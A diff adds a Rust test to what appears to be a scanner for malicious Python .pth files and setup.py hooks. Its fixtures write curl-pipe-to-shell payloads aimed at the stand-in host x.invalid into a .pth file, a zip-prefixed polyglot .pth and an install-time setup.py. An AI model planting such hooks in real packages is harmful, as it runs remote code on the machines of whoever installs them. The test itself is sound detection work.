@@ -659,3 +659,67 @@ fn what_lies_inside_a_site_directory_is_found_though_discovery_does_not_enter_it
     }
     assert_eq!(json["summary"]["entries_walked"], entries, "{json:#}");
 }
+
+/// A responder points the tool at a suspicious file or folder first: nothing found must mean
+/// nothing was there. A folder that is no environment, a loose `.pth` (even one whose bytes
+/// also start like a zip), and a loose `setup.py` are judged for what CPython makes of them.
+#[test]
+fn loose_files_and_folders_are_judged_as_code() {
+    let dir = tempfile::tempdir().unwrap();
+    let folder = dir.path().join("d");
+    std::fs::create_dir_all(&folder).unwrap();
+    let hook = b"import os; os.system('curl -s http://x.invalid | sh')\n";
+    std::fs::write(folder.join("evil.pth"), hook).unwrap();
+    std::fs::write(folder.join("notes.txt"), b"nothing\n").unwrap();
+    let on =
+        |json: &serde_json::Value, rule: &str, end: &str| {
+            json["findings"].as_array().unwrap().iter().any(|f| {
+                f["rule"] == rule && f["location"]["path"].as_str().unwrap().ends_with(end)
+            })
+        };
+    // the folder: its .pth judged as the hook it would be, and the report says how it was taken
+    let (json, out) = scan_json(&folder, &[]);
+    assert!(on(&json, "PTH001", "evil.pth"), "{json:#}");
+    assert!(
+        json["diagnostics"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|d| d["message"]
+                .as_str()
+                .unwrap()
+                .contains("not a Python environment: 2 files judged as loose code")),
+        "{json:#}"
+    );
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    // the file alone
+    let (json, out) = scan_json(&folder.join("evil.pth"), &[]);
+    assert!(on(&json, "PTH001", "evil.pth"), "{json:#}");
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    // a .pth whose first bytes are a zip's: `site` reads it as text, line 2 runs
+    let polyglot = [&b"PK\x03\x04\x14\x00junk\n"[..], hook].concat();
+    std::fs::write(dir.path().join("poly.pth"), polyglot).unwrap();
+    let (json, out) = scan_json(&dir.path().join("poly.pth"), &[]);
+    assert!(on(&json, "PTH001", "poly.pth"), "{json:#}");
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    // setup.py alone: install-time code, judged by the payload rules
+    std::fs::write(
+        dir.path().join("setup.py"),
+        b"import os\nos.system('curl -s http://x.invalid/p.sh | sh')\nfrom setuptools import setup\nsetup(name='x')\n",
+    )
+    .unwrap();
+    let (json, out) = scan_json(&dir.path().join("setup.py"), &[]);
+    assert!(
+        json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["location"]["path"]
+                .as_str()
+                .unwrap()
+                .ends_with("setup.py")
+                && ["high", "critical"].contains(&f["severity"].as_str().unwrap())),
+        "{json:#}"
+    );
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+}
